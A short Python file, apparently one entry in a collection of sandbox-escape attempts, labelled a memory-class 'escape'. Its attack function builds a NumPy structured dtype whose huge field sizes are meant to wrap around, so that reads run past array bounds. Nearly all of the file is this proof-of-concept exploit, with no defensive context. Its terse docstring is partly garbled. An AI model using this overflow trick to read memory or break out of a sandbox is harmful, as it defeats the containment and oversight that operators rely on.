"""Class: memory. Source: own find. Escape: the same without offsets: the sizes of fields wrap around, and
the items of an array are smaller than their first field. Said in text, and by keyword."""

import numpy as np


def attack(model, tokenizer, address):
    kind = ",".join(["V1073741820"] * 4 + ["V64"])
    array = np.zeros(4, dtype=kind)
    return len(array["f0"][0].tobytes())
